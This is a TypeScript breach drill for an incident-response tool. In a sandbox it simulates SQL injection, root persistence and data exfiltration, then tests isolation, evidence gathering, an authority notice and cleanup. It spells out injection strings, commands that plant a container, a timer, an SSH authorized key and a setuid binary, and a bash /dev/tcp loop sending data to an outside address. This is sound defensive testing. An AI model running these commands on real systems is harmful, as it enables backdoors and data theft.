/** Someone tries SQL at the site, is root on the host then, stays by a container, a timer, a program and a key, and sends data out. */
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { start } from "../../ops/lib/process";
import { SITE } from "../journey";
import { execFromOutsider } from "../machines/exec";
import type { SandboxHost } from "../machines/inventory";
import { recoveryKeyFile } from "../recoveryKey";
import { type DrillBench, PATIENCE_SECONDS, until } from "./bench";
import { answersOutside, Drill, serves } from "./drill";
import type { DrillResult } from "./figures";

const INJECTIONS = [
  "/notes?q=1%27%20or%20%271%27=%271",
  "/notes?q=1%20union%20all%20select%20null",
  "/notes?q=%27;drop%20table%20notes",
  "/notes?q=pg_sleep(9)",
];
const PORT = 443;
const ARRIVING_SECONDS = 5;
// Says when bytes came last, until its standard input ends.
const LISTENER = `import socket,sys,threading,time
server = socket.create_server((sys.argv[1], ${String(PORT)}))
last = [0.0]
def take():
    while True:
        connection, _ = server.accept()
        print("connected", flush=True)
        while connection.recv(4096):
            last[0] = time.time()
threading.Thread(target=take, daemon=True).start()
print("ready", flush=True)
sys.stdin.read()
print(f"last {last[0]:.3f}", flush=True)`;
// Each is named by what is on the right.
const PLANTED: readonly (readonly [command: string, named: string])[] = [
  [
    'docker run --detach --name planted --network none --entrypoint /usr/bin/sleep "$(docker inspect --format {{.Image}} cache)" 3600',
    "container: planted",
  ],
  [
    "printf '[Timer]\\\\nOnCalendar=yearly\\\\n' > /etc/systemd/system/planted.timer && systemctl daemon-reload",
    "unit of systemd: /etc/systemd/system/planted.timer",
  ],
  [
    "mkdir -p -m 0700 /root/.ssh && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPzQ3Ksjb5PxAOA0y0DMVYBqLl7W+eFjjhInO9zisQkH x' > /root/.ssh/authorized_keys",
    "authorized keys: /root/.ssh/authorized_keys",
  ],
  ["cp /bin/true /opt/planted-suid && chmod 4755 /opt/planted-suid", "/opt/planted-suid"],
];
const CLEAN =
  "systemctl stop planted-sender; docker rm --force --volumes planted; rm -rf /etc/systemd/system/planted.timer /root/.ssh /opt/planted-suid; systemctl daemon-reload; systemctl reset-failed";
// Services answer again after a moment.
const LOOK = "for try in $(seq 24); do systemctl start phiward-integrity.service && exit 0; sleep 5; done; exit 1";

export async function breach(bench: DrillBench): Promise<DrillResult> {
  const drill = new Drill("breach", bench);
  const { sandbox, web } = bench;
  const address = sandbox.outsiders[1]?.address ?? "";
  const listener = start(["nsenter", `--net=/run/netns/${sandbox.outsiders[1]?.netns ?? ""}`, "--", "python3", "-c", LISTENER, address], {
    stdio: "pipe",
  });
  let heard = "";
  for (const stream of [listener.stdout, listener.stderr]) stream.on("data", (part: Buffer) => (heard += part.toString()));
  const hears = (word: string): Promise<unknown> =>
    until(`${word} of the attacker's own machine`, PATIENCE_SECONDS, () => Promise.resolve(heard.includes(word) ? true : undefined)).catch(
      (error: unknown) => {
        throw new Error(`${String(error)}: ${heard}`);
      },
    );
  await hears("ready");

  const at = await drill.attack();
  for (const path of INJECTIONS)
    await execFromOutsider(sandbox, 1, [
      "curl",
      "--insecure",
      "--silent",
      "--output",
      "/dev/null",
      "--max-time",
      "5",
      "--resolve",
      `${SITE}:443:${web.address}`,
      `https://${SITE}${path}`,
    ]);
  // The site has no such hole: from here on the attacker is put where one would have led to.
  for (const [command] of PLANTED) await bench.must(web, "sh", "-ec", command);
  await bench.must(
    web,
    "systemd-run",
    "--unit=planted-sender",
    "bash",
    "-c",
    `exec 3>/dev/tcp/${address}/${String(PORT)}; while echo patients >&3; do sleep 0.02; done`,
  );
  await hears("connected");
  await drill.detected("SQL_INJECTION");

  const words = ["--as", "alice", "--why", "drill: a breach", "--yes"] as const;
  const asked = Date.now() / 1000;
  await drill.part("isolated", () => bench.phiward("isolate", "web", ...words));
  const took = Date.now() / 1000 - asked;
  drill.prove("nothing of the host answers outsiders", !(await answersOutside(bench, web)));
  const file = await drill.evidence();
  listener.stdin.end();
  await hears("last ");
  const cut = Number(/^last ([0-9.]+)$/m.exec(heard)?.[1]) - asked;
  // How long that may take is aimed at, and not proven: a busy machine takes longer. What is on its way still arrives.
  const isCut = cut > 0 && cut < took + ARRIVING_SECONDS;
  drill.prove(`the attacker got the last byte ${cut.toFixed(1)} s after the command was given, and none since`, isCut, heard);

  const seen = (await bench.asked("investigate", "web", "--as", "alice", "--evidence", file, "--recovery-key", recoveryKeyFile(sandbox)))
    .stdout;
  const missing = PLANTED.filter(([, named]) => !seen.includes(named)).map(([, named]) => named);
  drill.prove(
    `the evidence names all ${String(PLANTED.length)} that were planted: container, timer, key, program`,
    missing.length === 0,
    `${missing.join(", ")}\n${seen}`,
  );
  await notified(drill, at);
  await drill.part("recovered", () => cleaned(bench, web, words));
  drill.prove("the host serves, all its checks pass, and nothing is found there that nobody declared", await serves(bench));
  return drill.result;
}

async function notified(drill: Drill, at: Date): Promise<void> {
  const { bench } = drill;
  const own = ["--key", bench.sandbox.keyFile] as const;
  const notice = join(bench.sandbox.dir, "notice.md");
  const opened = await bench.phiward(
    "incident",
    "open",
    "--class",
    "P1",
    "--host",
    "web",
    "--since",
    `${at.toISOString().slice(0, 16)}Z`,
    "--what",
    "Data of web went out to an unknown address",
    ...own,
  );
  const number = /incident (\d+) is open/.exec(opened)?.[1] ?? "";
  await bench.phiward(
    "incident",
    "note",
    number,
    "--note",
    "from the evidence",
    "--data",
    "patients",
    "--persons",
    "12",
    "--fact",
    "nature=names and notes were read",
    "--done",
    "contain",
    ...own,
  );
  await bench.phiward("incident", "draft", number, "--to", "authority", "--output", notice, ...own);
  const text = readFileSync(notice, "utf8");
  drill.prove(
    "the notice to the authority has the facts that are on record",
    ["names and notes were read", "12"].every((fact) => text.includes(fact)),
    text,
  );
}

// Each of it is known, by a program that did not come from this host: so it is taken out, and looked at again. Where a person doubts that,
// a fresh server takes its place, as in the drill ransomware.
async function cleaned(bench: DrillBench, web: SandboxHost, words: readonly string[]): Promise<void> {
  await bench.phiward("unisolate", "web", "--no-verify", ...words);
  const { code, stderr } = await bench.asAlice(web, `sudo -n sh -c '${CLEAN}' && sudo -n sh -c '${LOOK}'`);
  if (code !== 0) throw new Error(`what was planted could not be removed: ${stderr}`);
  await bench.phiward("verify");
  await bench.phiward("investigate", "web", "--as", "alice");
}
